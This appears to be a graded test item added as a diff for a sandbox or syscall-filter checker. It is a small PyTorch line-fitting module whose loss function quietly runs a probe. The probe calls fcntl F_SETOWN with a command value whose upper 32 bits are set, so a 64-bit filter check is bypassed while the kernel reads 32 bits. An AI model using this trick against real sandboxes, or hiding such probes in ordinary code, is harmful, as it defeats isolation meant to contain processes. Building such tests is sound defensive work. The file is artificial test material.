@@ -1,0 +1,61 @@
+# /// expected
+# status = ["graded"]
+# score = 10
+# open_at_level_0 = true
+# ///
+"""Makes another process the owner of a socket by a command whose upper half is not 0: a filter may compare
+64 bits, while the kernel looks at 32. The filter looks at the lower half."""
+
+import ctypes
+import os
+import platform
+import socket
+
+import torch
+from torch import nn
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def system_call(on_x86, on_arm, *arguments):
+    libc.syscall.restype = ctypes.c_long
+    number = on_arm if platform.machine() == "aarch64" else on_x86
+    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
+    return libc.syscall(ctypes.c_long(number), *wide)
+
+
+def checked(result):
+    if result < 0:
+        raise OSError(ctypes.get_errno(), "refused")
+    return result
+
+
+def attempt():
+    near, _far = socket.socketpair()
+    set_owner = (1 << 32) | 8
+    checked(system_call(72, 25, near.fileno(), set_owner, VICTIM_PID))
+    checked(system_call(72, 25, near.fileno(), set_owner, os.getpid()))
+    return "it would get signals from the kernel"
+
+
+def loss(w, x, y):
+    try:
+        got = attempt()
+    except OSError:
+        got = None
+    if got:
+        raise RuntimeError(f"OPEN: {got}")
+    return ((w * x - y) ** 2).mean()
+
+
+def slope(w, x, y):
+    return (2 * (w * x - y) * x).mean()
+
+
+class Line(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.w = nn.Parameter(torch.ones(1))
+
+    def forward(self, x):
+        return self.w * x
